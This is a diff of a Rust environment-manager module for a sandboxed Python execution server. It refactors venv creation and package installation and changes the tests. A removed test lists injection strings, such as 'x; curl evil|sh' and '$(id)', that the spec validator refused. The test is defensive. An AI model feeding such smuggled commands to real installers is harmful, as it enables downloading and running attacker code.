@@ -1,7 +1,14 @@
 //! Environment operations that run code: creating the managed default environment,
-//! probing an environment inside a sandbox, checking and installing packages. Nothing here
-//! runs on the host: every step is a job in a sandbox, the installer being the only one
-//! with network access and a writable mount (of the environment alone).
+//! probing an environment inside a sandbox, checking and installing packages
+//! ([`install`](mod@install): two phases, the network never meets the environment).
+//! Nothing here runs on the host: every step is a job in a sandbox.
+
+mod install;
+
+pub use install::{
+    installer_limits, manylinux_platforms, parse_successfully_installed, strip_setid_bits, Install,
+    InstallCaps, InstallEvent, InstallEvents, InstallReport, InstalledInto, Phase, INDEX_VARS,
+};
 
 use std::collections::HashMap;
 use std::path::{Path, PathBuf};
@@ -14,10 +21,13 @@ use tokio::sync::{Mutex, OwnedRwLockReadGuard, RwLock};
 use super::spec::{self, SpecError};
 use super::{EnvError, EnvKind, Environment};
 use crate::job::{InputFile, JobSpec, Limits, Mount, Outcome, RunEnv};
-use crate::sandbox::{Events, Sandbox, SandboxError};
+use crate::sandbox::{Sandbox, SandboxError};
 
 /// Uid:gid of sandboxes; the managed environment belongs to it so installers need no root.
 const SANDBOX_UID: u32 = 65534;
+/// Written into the managed environment once it is completely built: a directory without
+/// it is a creation that failed midway, and is rebuilt.
+pub const COMPLETE_MARKER: &str = ".mcpx-complete";
 
 /// Why an environment operation failed.
 #[derive(Debug, thiserror::Error)]
@@ -38,6 +48,15 @@ pub enum ManagerError {
     NotAllowed(String),
     #[error("cannot prepare {path}: {detail}")]
     Io { path: PathBuf, detail: String },
+    /// Some requirement has no wheel for the environment (or does not exist).
+    #[error("nothing was installed: {}{}", .missing.join("; "), if *.no_wheel { format!(". Wheels are looked for Python {} on {}; source builds (sdists) are not run, because building from source would execute the package's own build code with network access. Pick a version that publishes wheels for this Python, or use an environment whose Python has them", .python, .platform) } else { String::new() })]
+    NotAvailable {
+        missing: Vec<String>,
+        /// True when some of them exist on the index but have no usable wheel.
+        no_wheel: bool,
+        python: String,
+        platform: String,
+    },
 }
 
 /// What the environment's own Python says about itself, from inside a sandbox.
@@ -56,44 +75,49 @@ pub struct PackageStatus {
     pub version: Option<String>,
 }
 
-/// The result of an install: the outcome of the installer, and the versions now present.
-#[derive(Debug, Clone, Serialize)]
-pub struct InstallReport {
-    pub installed: Vec<PackageStatus>,
-    #[serde(skip)]
-    pub outcome: Outcome,
+/// The locks of one environment.
+#[derive(Default)]
+struct EnvLocks {
+    /// Runs share it, the install phase takes it alone.
+    rw: Arc<RwLock<()>>,
+    /// Held over both phases: one install at a time.
+    install: Arc<Mutex<()>>,
 }
 
 /// Owns the managed environments and serializes installs.
 pub struct EnvManager {
+    /// Absolute: everything under it is bind-mounted at the same path.
     data_dir: PathBuf,
-    /// CA bundle (PEM) installers trust, mounted read-only.
+    /// CA bundle (PEM) the fetch phase trusts, as configured (absolute, in the server's
+    /// filesystem); a copy under the data directory is what is mounted.
     ca_bundle: Option<PathBuf>,
-    /// One lock per environment: runs share it, an install takes it alone, so a run sees
-    /// the environment before or after an install, never halfway.
-    locks: Mutex<HashMap<PathBuf, Arc<RwLock<()>>>>,
+    /// `PIP_INDEX_URL` / `PIP_EXTRA_INDEX_URL` of the server's environment.
+    index_vars: Vec<(String, String)>,
+    locks: Mutex<HashMap<PathBuf, Arc<EnvLocks>>>,
 }
 
-/// Limits of installer containers: more room than runs, for pip's downloads and builds.
-pub fn installer_limits() -> Limits {
-    Limits {
-        timeout: Duration::from_secs(600),
-        memory_bytes: 2 << 30,
-        cpus: 2.0,
-        pids: 512,
-        output_bytes: 1 << 20,
-        workspace_bytes: 16 << 20,
-        tmp_bytes: 2 << 30,
-        nofile: 4096,
-    }
+/// `path` made absolute against the working directory (not resolved: it may not exist yet).
+fn absolute(path: PathBuf) -> PathBuf {
+    std::path::absolute(&path).unwrap_or(path)
 }
 
 impl EnvManager {
-    /// `data_dir` holds the managed environments; `ca_bundle` is trusted by installers.
+    /// `data_dir` holds the managed environments and the installs' scratch directories;
+    /// `ca_bundle` is trusted by the fetch phase. Both are made absolute (a relative path
+    /// means nothing to the Docker daemon). `PIP_INDEX_URL` and `PIP_EXTRA_INDEX_URL` of
+    /// the server's environment are passed to the fetch phase.
     pub fn new(data_dir: PathBuf, ca_bundle: Option<PathBuf>) -> Self {
+        let index_vars = INDEX_VARS
+            .iter()
+            .filter_map(|k| {
+                let v = std::env::var(k).ok().filter(|v| !v.trim().is_empty())?;
+                Some((k.to_string(), v))
+            })
+            .collect();
         EnvManager {
-            data_dir,
-            ca_bundle,
+            data_dir: absolute(data_dir),
+            ca_bundle: ca_bundle.map(absolute),
+            index_vars,
             locks: Mutex::default(),
         }
     }
@@ -103,6 +127,13 @@ impl EnvManager {
     pub fn default_ca_bundle() -> Option<PathBuf> {
         let p = PathBuf::from("/etc/ssl/certs/ca-certificates.crt");
         p.exists().then_some(p)
+    }
+
+    /// Where the copy of the CA bundle that installers mount lives: in the data directory,
+    /// which is at the same path for the server and the Docker daemon (under
+    /// docker-compose the server's `/etc/ssl/certs` is not the host's).
+    pub fn ca_copy_path(&self) -> PathBuf {
+        self.data_dir.join("ca-bundle.pem")
     }
 
     /// Where the managed environment of `tenant` lives.
@@ -129,19 +160,23 @@ impl EnvManager {
 
     /// The managed environment of `tenant`, created on first use: a venv of the image's
     /// Python with its system packages (numpy, pandas, matplotlib) visible, owned by the
-    /// sandbox uid.
+    /// sandbox uid. It counts as created once [`COMPLETE_MARKER`] is in it; a directory
+    /// without it (a creation that failed midway) is moved aside and built again.
     pub async fn ensure_managed(
         &self,
         sandbox: &dyn Sandbox,
         tenant: &str,
     ) -> Result<Environment, ManagerError> {
         let path = self.managed_path(tenant);
-        let lock = self.lock_of(&path).await;
-        let _excl = lock.write().await;
-        if !path.join("pyvenv.cfg").exists() {
-            create_owned_dir(&path)?;
+        let locks = self.locks_of(&path).await;
+        let _excl = locks.rw.write().await;
+        let p = path.clone();
+        if !blocking(move || Ok(is_complete(&p))).await? {
+            let p = path.clone();
+            blocking(move || start_afresh(&p)).await?;
+            // No pip inside: installs use the image's pip with `--python`.
             let code = format!(
-                "import json, venv\nvenv.EnvBuilder(system_site_packages=True, with_pip=True, symlinks=True).create(json.loads({}))\n",
+                "import json, venv\nvenv.EnvBuilder(system_site_packages=True, with_pip=False, symlinks=True).create(json.loads({}))\n",
                 py_str(&path.display().to_string())
             );
             let mut job = JobSpec::python(code, setup_limits());
@@ -157,6 +192,8 @@ impl EnvManager {
             if !o.success() {
                 return Err(failed("creating the managed environment", &o));
             }
+            let marker = path.join(COMPLETE_MARKER);
+            blocking(move || std::fs::write(&marker, b"").map_err(io_err(&marker))).await?;
         }
         Ok(Environment {
             kind: EnvKind::Managed,
@@ -167,19 +204,26 @@ impl EnvManager {
         })
     }
 
-    /// Hold this while a run uses `env`: installs wait for runs and runs for installs.
+    /// Hold this while a run uses `env`: the install phase waits for runs and runs for it.
     pub async fn read_lock(&self, env: &Environment) -> OwnedRwLockReadGuard<()> {
-        self.lock_of(&env.prefix).await.read_owned().await
+        self.locks_of(&env.prefix)
+            .await
+            .rw
+            .clone()
+            .read_owned()
+            .await
     }
 
-    /// Start the environment's Python inside a sandbox and check `sys.prefix` is it.
+    /// Start the environment's Python inside a sandbox (labelled `tenant`) and check
+    /// `sys.prefix` is it.
     pub async fn probe(
         &self,
         sandbox: &dyn Sandbox,
         env: &Environment,
+        tenant: &str,
     ) -> Result<Probe, ManagerError> {
         let code = "import json, sys, platform\nprint(json.dumps({'prefix': sys.prefix, 'version': platform.python_version(), 'executable': sys.executable}))\n";
-        let o = self.run_in(sandbox, env, code, vec![], None).await?;
+        let o = self.run_in(sandbox, env, tenant, code, vec![]).await?;
         if !o.success() {
             return Err(failed("starting the environment's Python", &o));
         }
@@ -203,6 +247,7 @@ impl EnvManager {
         &self,
         sandbox: &dyn Sandbox,
         env: &Environment,
+        tenant: &str,
         names: &[String],
     ) -> Result<Vec<PackageStatus>, ManagerError> {
         if names.is_empty() {
@@ -211,13 +256,14 @@ impl EnvManager {
         for n in names {
             spec::validate(std::slice::from_ref(&spec::name_of(n).to_string()))?;
         }
+        let code = format!("{CHECK_CORE}print(json.dumps(out))\n");
         let o = self
             .run_in(
                 sandbox,
                 env,
-                CHECK_SCRIPT,
+                tenant,
+                &code,
                 vec![json_file("names.json", names)],
-                None,
             )
             .await?;
         if !o.success() {
@@ -230,77 +276,23 @@ impl EnvManager {
         })
     }
 
-    /// Install `specs` with pip in an installer container: the environment mounted
-    /// read-write, network on for this container only, the CA bundle trusted.
-    pub async fn install(
-        &self,
-        sandbox: &dyn Sandbox,
-        env: &Environment,
-        tenant: &str,
-        specs: &[String],
-        events: Events,
-    ) -> Result<InstallReport, ManagerError> {
-        spec::validate(specs)?;
-        let names: Vec<String> = specs.iter().map(|s| spec::name_of(s).to_string()).collect();
-        let lock = self.lock_of(&env.prefix).await;
-        let _excl = lock.write().await;
-        let mut run_env = env.run_env();
-        run_env.mounts[0].writable = true;
-        run_env.network = true;
-        run_env.user = Some(owner_of(&env.prefix)?);
-        run_env.vars.push(("HOME".into(), "/tmp".into()));
-        run_env.vars.push(("PIP_NO_CACHE_DIR".into(), "1".into()));
-        if let Some(ca) = &self.ca_bundle {
-            run_env.mounts.push(Mount {
-                path: ca.clone(),
-                writable: false,
-            });
-            for var in ["SSL_CERT_FILE", "PIP_CERT", "REQUESTS_CA_BUNDLE"] {
-                run_env.vars.push((var.into(), ca.display().to_string()));
-            }
-        }
-        let mut job = JobSpec::python(format!("{INSTALL_PIP}{CHECK_SCRIPT}"), installer_limits());
-        job.tenant = tenant.to_string();
-        job.env = run_env;
-        job.files.push(json_file("packages.json", specs));
-        job.files.push(json_file("names.json", &names));
-        let o = sandbox.run(job, events).await?;
-        if !o.success() {
-            return Err(failed("pip install", &o));
-        }
-        let last = o
-            .stdout_text()
-            .lines()
-            .last()
-            .unwrap_or_default()
-            .to_string();
-        let installed = serde_json::from_str(&last).map_err(|e| ManagerError::Failed {
-            what: "pip install",
-            status: "unreadable answer".into(),
-            stderr: e.to_string(),
-        })?;
-        Ok(InstallReport {
-            installed,
-            outcome: o,
-        })
-    }
-
     async fn run_in(
         &self,
         sandbox: &dyn Sandbox,
         env: &Environment,
+        tenant: &str,
         code: &str,
         files: Vec<InputFile>,
-        events: Events,
     ) -> Result<Outcome, ManagerError> {
         let _shared = self.read_lock(env).await;
         let mut job = JobSpec::python(code, setup_limits());
+        job.tenant = tenant.to_string();
         job.files.extend(files);
         job.env = env.run_env();
-        Ok(sandbox.run(job, events).await?)
+        Ok(sandbox.run(job, None).await?)
     }
 
-    async fn lock_of(&self, path: &Path) -> Arc<RwLock<()>> {
+    async fn locks_of(&self, path: &Path) -> Arc<EnvLocks> {
         self.locks
             .lock()
             .await
@@ -308,6 +300,53 @@ impl EnvManager {
             .or_default()
             .clone()
     }
+}
+
+/// Run blocking file work off the async threads.
+async fn blocking<T: Send + 'static>(
+    f: impl FnOnce() -> Result<T, ManagerError> + Send + 'static,
+) -> Result<T, ManagerError> {
+    tokio::task::spawn_blocking(f)
+        .await
+        .map_err(|e| ManagerError::Io {
+            path: PathBuf::new(),
+            detail: e.to_string(),
+        })?
+}
+
+fn io_err(path: &Path) -> impl Fn(std::io::Error) -> ManagerError + '_ {
+    move |e| ManagerError::Io {
+        path: path.to_path_buf(),
+        detail: e.to_string(),
+    }
+}
+
+/// Is the managed environment at `path` completely built? One made before the marker
+/// existed (a `pyvenv.cfg` and pip, which venv installs last) is adopted.
+fn is_complete(path: &Path) -> bool {
+    if path.join(COMPLETE_MARKER).exists() {
+        return true;
+    }
+    let legacy = path.join("pyvenv.cfg").is_file()
+        && std::fs::read_dir(path.join("lib"))
+            .into_iter()
+            .flatten()
+            .flatten()
+            .any(|d| d.path().join("site-packages/pip/__init__.py").is_file());
+    legacy && std::fs::write(path.join(COMPLETE_MARKER), b"").is_ok()
+}
+
+/// Make `path` an empty directory owned by the sandbox uid; a half-built one is moved
+/// aside (and removed where the server may).
+fn start_afresh(path: &Path) -> Result<(), ManagerError> {
+    if std::fs::symlink_metadata(path).is_ok() {
+        let aside = path.with_extension(format!("broken-{}", crate::job::new_job_id()));
+        std::fs::rename(path, &aside).map_err(io_err(path))?;
+        if let Err(e) = std::fs::remove_dir_all(&aside) {
+            tracing::warn!(dir = %aside.display(), error = %e, "half-built environment moved aside, not removed");
+        }
+    }
+    create_owned_dir(path)
 }
 
 fn setup_limits() -> Limits {
@@ -349,32 +388,27 @@ fn py_str(s: &str) -> String {
 
 /// Create `path` (and parents) owned by the sandbox uid, so sandboxes can write it.
 fn create_owned_dir(path: &Path) -> Result<(), ManagerError> {
-    let io = |e: std::io::Error| ManagerError::Io {
-        path: path.to_path_buf(),
-        detail: e.to_string(),
-    };
-    std::fs::create_dir_all(path).map_err(io)?;
+    std::fs::create_dir_all(path).map_err(io_err(path))?;
     match std::os::unix::fs::chown(path, Some(SANDBOX_UID), Some(SANDBOX_UID)) {
         Ok(()) => Ok(()),
         // Not root: make it writable for everyone instead (a single-user machine).
         Err(_) => {
             use std::os::unix::fs::PermissionsExt;
-            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).map_err(io)
+            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777))
+                .map_err(io_err(path))
         }
     }
 }
 
-/// `uid:gid` owning the environment: the installer writes as its owner.
-fn owner_of(path: &Path) -> Result<String, ManagerError> {
+/// Uid and gid owning the environment: the install phase writes as its owner.
+fn owner_of(path: &Path) -> Result<(u32, u32), ManagerError> {
     use std::os::unix::fs::MetadataExt;
-    let m = std::fs::metadata(path).map_err(|e| ManagerError::Io {
-        path: path.to_path_buf(),
-        detail: e.to_string(),
-    })?;
-    Ok(format!("{}:{}", m.uid(), m.gid()))
+    let m = std::fs::metadata(path).map_err(io_err(path))?;
+    Ok((m.uid(), m.gid()))
 }
 
-const CHECK_SCRIPT: &str = r#"
+/// Which of `names.json` are installed, with versions, as `out` (the scripts print it).
+const CHECK_CORE: &str = r#"
 import json
 from importlib import metadata
 names = json.load(open('names.json'))
@@ -384,64 +418,46 @@ for n in names:
         out.append({'name': n, 'installed': True, 'version': metadata.version(n)})
     except metadata.PackageNotFoundError:
         out.append({'name': n, 'installed': False, 'version': None})
-print(json.dumps(out))
-"#;
-
-/// pip, then the versions now present (the check script appended to it).
-const INSTALL_PIP: &str = r#"
-import json, subprocess, sys
-pkgs = json.load(open('packages.json'))
-cmd = [sys.executable, '-m', 'pip', 'install', '--no-input', '--disable-pip-version-check',
-       '--progress-bar', 'off', '--no-warn-script-location'] + pkgs
-r = subprocess.run(cmd, stdout=sys.stderr)
-if r.returncode:
-    sys.exit(r.returncode)
 "#;
 
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::sandbox::BackendInfo;
-    use async_trait::async_trait;
-
-    /// A backend that must never be asked to run anything.
-    struct NoRuns;
-
-    #[async_trait]
-    impl Sandbox for NoRuns {
-        async fn run(&self, job: JobSpec, _: Events) -> Result<Outcome, SandboxError> {
-            panic!("a sandbox was started for {:?}", job.files);
-        }
-        async fn info(&self) -> Result<BackendInfo, SandboxError> {
-            unreachable!()
-        }
-        async fn drain(&self) {}
-    }
+    use crate::env::testing::{tempdir, Recorder};
 
     #[tokio::test]
-    async fn hostile_specs_are_refused_before_any_sandbox_exists() {
-        let m = EnvManager::new("/nonexistent".into(), None);
-        let env = Environment {
-            kind: EnvKind::Managed,
-            prefix: "/nonexistent/env".into(),
-            python: "/nonexistent/env/bin/python".into(),
-            base: None,
-            version: None,
-        };
-        for bad in [
-            "x; curl evil|sh",
-            "--index-url=http://evil",
-            "git+https://x/y",
-            "a b",
-        ] {
-            let err = m
-                .install(&NoRuns, &env, "t", &[bad.to_string()], None)
-                .await
-                .unwrap_err();
-            assert!(matches!(err, ManagerError::Spec(_)), "{bad}: {err}");
-        }
-        let err = m.check(&NoRuns, &env, &["$(id)".into()]).await.unwrap_err();
-        assert!(matches!(err, ManagerError::Spec(_)), "{err}");
+    async fn a_half_built_managed_environment_is_rebuilt() {
+        let t = tempdir();
+        let m = EnvManager::new(t.join("data"), None);
+        let path = m.managed_path("acme");
+        std::fs::create_dir_all(&path).unwrap();
+        std::fs::write(path.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
+        std::fs::write(path.join("junk"), "").unwrap();
+        let fake = Recorder::default();
+        let env = m.ensure_managed(&fake, "acme").await.unwrap();
+        assert_eq!(env.prefix, path);
+        assert_eq!(fake.jobs().len(), 1, "created again");
+        assert_eq!(fake.jobs()[0].tenant, "acme");
+        assert!(
+            !path.join("junk").exists(),
+            "the broken one was moved aside"
+        );
+        assert!(path.join(COMPLETE_MARKER).exists());
+        // Complete now: no second creation.
+        m.ensure_managed(&fake, "acme").await.unwrap();
+        assert_eq!(fake.jobs().len(), 1);
+        // One made before the marker (pip inside) is adopted, not rebuilt.
+        let legacy = m.managed_path("old");
+        std::fs::create_dir_all(legacy.join("lib/python3.11/site-packages/pip")).unwrap();
+        std::fs::write(
+            legacy.join("lib/python3.11/site-packages/pip/__init__.py"),
+            "",
+        )
+        .unwrap();
+        std::fs::write(legacy.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
+        m.ensure_managed(&fake, "old").await.unwrap();
+        assert_eq!(fake.jobs().len(), 1);
+        std::fs::remove_dir_all(t).ok();
     }
 
     #[test]
@@ -465,5 +481,13 @@ mod tests {
             m.managed_path("../../etc"),
             Path::new("/data/tenants/______etc/envs/default")
         );
+    }
+
+    #[test]
+    fn relative_paths_are_made_absolute() {
+        let m = EnvManager::new("rel-data".into(), Some("certs/ca.pem".into()));
+        assert!(m.data_dir.is_absolute());
+        assert!(m.ca_bundle.as_deref().unwrap().is_absolute());
+        assert!(m.ca_copy_path().starts_with(&m.data_dir));
     }
 }
